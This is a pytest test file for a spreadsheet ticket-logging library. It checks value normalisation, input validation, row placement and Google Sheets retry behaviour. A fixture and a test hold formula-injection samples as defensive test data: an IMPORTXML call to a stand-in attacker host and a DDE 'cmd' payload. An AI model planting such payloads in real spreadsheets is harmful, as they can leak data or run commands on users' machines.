"""`append` on both backends: canonical values, defaults, refusals, text kept as text,
where the row lands, and on Google its call budget and a retry after a lost reply."""

from __future__ import annotations

import re
from datetime import UTC, datetime
from typing import Any

import pytest
from openpyxl import load_workbook

from sheetlog.errors import InvalidInput, InvalidValue
from sheetlog.model.ops import AddTab, SetCells
from sheetlog.model.templates import load_template
from sheetlog.passes.record import new_ticket_id
from tests.conftest import LogUnderTest

STANDARD = load_template("standard")
NOW = datetime(2025, 11, 15, 14, 30, 42, tzinfo=UTC)
ENTRY = {"Customer": "ORD789456", "Agent": "Maya", "Issue Summary": "Parcel late"}
TICKET = re.compile(r"T-251115-[0-9A-HJKMNP-TV-Z]{5}")


def stored(row: dict[str, Any]) -> list[Any]:
    """A stored row as the sheet holds it: header order, trailing empty cells dropped."""
    cells = [row[name] for name in STANDARD.header]
    while cells and cells[-1] is None:
        cells.pop()
    return cells


def test_append_stores_the_canonical_row_with_defaults(any_log: LogUnderTest) -> None:
    any_log.log.init()
    row = any_log.log.append(
        {
            " customer ": "  ORD789456 ",
            "Channel": "e-mail",
            "Agent": "Maya",
            "issue type": "delay",
            "Issue Summary": "Parcel late",
            "Contact End": "2025-11-15T09:45-05:00",
            "Tags": "Billing Dispute; refund_delayed, billing-dispute",
        },
        now=NOW,
    )
    assert TICKET.fullmatch(str(row["Ticket ID"]))
    assert row["Customer"] == "ORD789456"
    assert row["Channel"] == "Email"
    assert row["Issue Type"] == "Shipping Delay"
    assert row["Contact Start"] == "2025-11-15 14:30 UTC"  # now, seconds dropped
    assert row["Contact End"] == "2025-11-15 14:45 UTC"
    assert row["Status"] == "Open"
    assert row["Tags"] == "billing-dispute, refund-delayed"
    assert any_log.values("Log") == [STANDARD.header, stored(row)]
    audit = any_log.audit()[-1]
    assert audit[2:5] == ["append", "Log", row["Ticket ID"]]


def test_a_closed_entry_is_resolved_now_unless_given(any_log: LogUnderTest) -> None:
    any_log.log.init()
    solved = any_log.log.append({**ENTRY, "Status": "solved"}, now=NOW)
    assert (solved["Status"], solved["Resolved At"]) == ("Resolved", "2025-11-15 14:30 UTC")
    given = {**ENTRY, "Status": "Closed", "Contact Start": "2025-11-14 09:00 UTC"}
    closed = any_log.log.append({**given, "Resolved At": "2025-11-14 10:00Z"}, now=NOW)
    assert closed["Resolved At"] == "2025-11-14 10:00 UTC"


BAD_INPUT = [
    ({**ENTRY, "Custmer": "x"}, 'Custmer: "x" is not one of the template\'s columns'),
    ({"Agent": "Maya", "Issue Summary": "x"}, 'Customer: "" is not filled in (required)'),
    (
        {**ENTRY, "Contact Start": "03/04/2025 10:00"},
        'Contact Start: "03/04/2025 10:00" is not YYYY-MM-DD HH:MM UTC',
    ),
    ({**ENTRY, "Channel": "fax"}, 'Channel: "fax" is not one of "Live Chat", "Email"'),
    ({**ENTRY, "Validation": "ok"}, 'Validation: "ok" is not left empty'),
    (
        {**ENTRY, "Contact Start": "2025-11-15 10:00 UTC", "Contact End": "2025-11-15 09:00Z"},
        'Contact End: "2025-11-15 09:00Z" is not at or after Contact Start',
    ),
]


def test_bad_input_names_column_value_and_format_and_writes_nothing(
    any_log: LogUnderTest,
) -> None:
    any_log.log.init()
    marker = any_log.write_marker()
    for values, message in BAD_INPUT:
        with pytest.raises(InvalidInput) as caught:
            any_log.log.append(values, now=NOW)
        assert message in str(caught.value)
        assert "\n" not in str(caught.value)
    assert any_log.write_marker() == marker
    assert any_log.values("Log") == [STANDARD.header]


def test_a_ticket_id_in_log_or_an_archive_is_refused(any_log: LogUnderTest) -> None:
    any_log.log.init()
    any_log.log.append({**ENTRY, "Ticket ID": "HD-1001"}, now=NOW)
    with pytest.raises(InvalidValue, match='it is on "Log" row 2'):
        any_log.log.append({**ENTRY, "Ticket ID": "HD-1001"}, now=NOW)
    any_log.log.backend.write(
        [
            AddTab("Archive 2025-10", tuple(STANDARD.header)),
            SetCells("Archive 2025-10", 2, 0, (("HD-900",),)),
        ]
    )
    with pytest.raises(InvalidValue, match='it is on "Archive 2025-10" row 2'):
        any_log.log.append({**ENTRY, "Ticket ID": "HD-900"}, now=NOW)


def test_generated_ids_are_drawn_again_when_taken(monkeypatch: pytest.MonkeyPatch) -> None:
    draws = iter("00000" + "7K3QZ")
    monkeypatch.setattr("sheetlog.passes.record.secrets.choice", lambda alphabet: next(draws))
    assert new_ticket_id(STANDARD, {"T-251115-00000"}, NOW) == "T-251115-7K3QZ"


TEXTS = {  # column: a value a spreadsheet would run as a formula if it were not kept as text
    "Customer": "@x",
    "Agent": "-x",
    "Issue Summary": '=HYPERLINK("http://x","y")',
    "Actions & Notes": '=IMPORTXML("http://evil.example/x","//a")',
    "Follow-up Notes": "+1",
}


def test_text_that_looks_like_a_formula_is_stored_verbatim(any_log: LogUnderTest) -> None:
    any_log.log.init()
    row = any_log.log.append(TEXTS)
    tabbed = any_log.log.append({**ENTRY, "Actions & Notes": "\t\r=cmd|' /C calc'!A0"})
    assert tabbed["Actions & Notes"] == "=cmd|' /C calc'!A0"  # stripped, and text
    header = STANDARD.header
    rows = any_log.values("Log")
    for column, text in TEXTS.items():
        assert rows[1][header.index(column)] == text == row[column]
    assert rows[2][header.index("Actions & Notes")] == tabbed["Actions & Notes"]
    if any_log.fake is not None:
        grid = any_log.fake.grid(any_log.spreadsheet_id, "Log")
        for column, text in TEXTS.items():
            entered = grid[1][header.index(column)]["userEnteredValue"]
            assert entered == {"stringValue": text}  # no formulaValue: never run
    elif any_log.path is not None:
        sheet = load_workbook(any_log.path)["Log"]
        for column in TEXTS:
            assert sheet.cell(row=2, column=header.index(column) + 1).data_type == "s"


def test_rows_land_below_the_last_content_row_from_column_a(any_log: LogUnderTest) -> None:
    """Blank rows inside the table and a note typed in a far column shift nothing."""
    any_log.log.init()
    first = any_log.log.append(ENTRY, now=NOW)
    width = len(STANDARD.header)
    typed = ("T-manual", "Walk-in customer")
    any_log.log.backend.write(  # a person leaves row 3 blank and types row 4, with a far note
        [SetCells("Log", 4, 0, (typed,)), SetCells("Log", 4, width + 4, (("call back Tue",),))]
    )
    second = any_log.log.append(ENTRY, now=NOW)
    rows = any_log.values("Log")
    assert rows[1] == stored(first)
    assert rows[2] == []
    assert rows[3][:2] == list(typed) and rows[3][width + 4] == "call back Tue"
    assert rows[4] == stored(second)
    assert len(rows) == 5


def test_a_note_below_the_table_counts_as_content(any_log: LogUnderTest) -> None:
    """Documented: the row lands below the last row with any content, even a stray note."""
    any_log.log.init()
    any_log.log.append(ENTRY, now=NOW)
    any_log.log.backend.write([SetCells("Log", 6, 20, (("stray note",),))])
    row = any_log.log.append(ENTRY, now=NOW)
    assert any_log.values("Log")[6] == stored(row)


# --- Google only: call budget, retries, collaborators -----------------------------------


def test_append_costs_one_read_and_one_write(google_log: LogUnderTest) -> None:
    fake = google_log.fake
    assert fake is not None
    google_log.log.init()
    google_log.log.append(ENTRY)  # the first row goes straight under the header
    fake.calls.clear()
    google_log.log.append(ENTRY)
    assert [c.method_id for c in fake.calls] == [
        "spreadsheets.getByDataFilter",
        "spreadsheets.batchUpdate",
    ]
    (write,) = [c for c in fake.calls if c.method_id == "spreadsheets.batchUpdate"]
    assert write.body is not None
    # the row goes under the last row read (inserted, then filled); the Audit line, on a
    # tab without formats, where appendCells puts it
    assert [next(iter(r)) for r in write.body["requests"]] == [
        "insertDimension",
        "updateCells",
        "appendCells",
    ]


def test_a_retried_append_whose_reply_was_lost_leaves_one_row(google_log: LogUnderTest) -> None:
    fake = google_log.fake
    assert fake is not None
    google_log.log.init()
    fake.calls.clear()
    fake.inject(
        status=503,
        times=1,
        apply_first=True,
        when=lambda c: c.method_id == "spreadsheets.batchUpdate",
    )
    row = google_log.log.append(ENTRY)
    assert google_log.values("Log") == [STANDARD.header, stored(row)]
    assert [r[2] for r in google_log.audit()[1:]] == ["init", "append"]
    assert [(c.method_id, c.status) for c in fake.calls] == [
        ("spreadsheets.getByDataFilter", 200),
        ("spreadsheets.batchUpdate", 503),  # applied, reply lost
        ("spreadsheets.getByDataFilter", 200),  # the Audit receipt says it landed: not sent again
    ]


def test_a_row_typed_while_appending_is_pushed_down_not_overwritten(
    google_log: LogUnderTest,
) -> None:
    fake = google_log.fake
    assert fake is not None
    google_log.log.init()
    first = google_log.log.append(ENTRY)  # under a lone header rows are written in place
    person = fake.person(google_log.spreadsheet_id)
    typing = {"done": False}

    def types_a_row(call: Any) -> None:
        if call.method_id == "spreadsheets.batchUpdate" and not typing["done"]:
            typing["done"] = True  # between sheetlog's read and its write
            person.type("Log", "B3", "Half-typed customer")

    fake.before_request(types_a_row)
    row = google_log.log.append(ENTRY)
    rows = google_log.values("Log")
    assert rows[1] == stored(first)
    assert rows[2] == stored(row)
    assert rows[3] == [None, "Half-typed customer"]


def test_gspread_values_append_pitfalls_do_not_apply(google_log: LogUnderTest) -> None:
    """gspread #537/#735/#828: values.append shifts rows right after gaps and far notes."""
    fake = google_log.fake
    assert fake is not None
    google_log.log.init()
    person = fake.person(google_log.spreadsheet_id)
    person.type("Log", "A2", "T-a")
    person.type("Log", "A5", "T-b")
    person.type("Log", "O3", "note")  # the last column: Log is as wide as its header
    row = google_log.log.append(ENTRY)
    assert google_log.values("Log")[5] == stored(row)
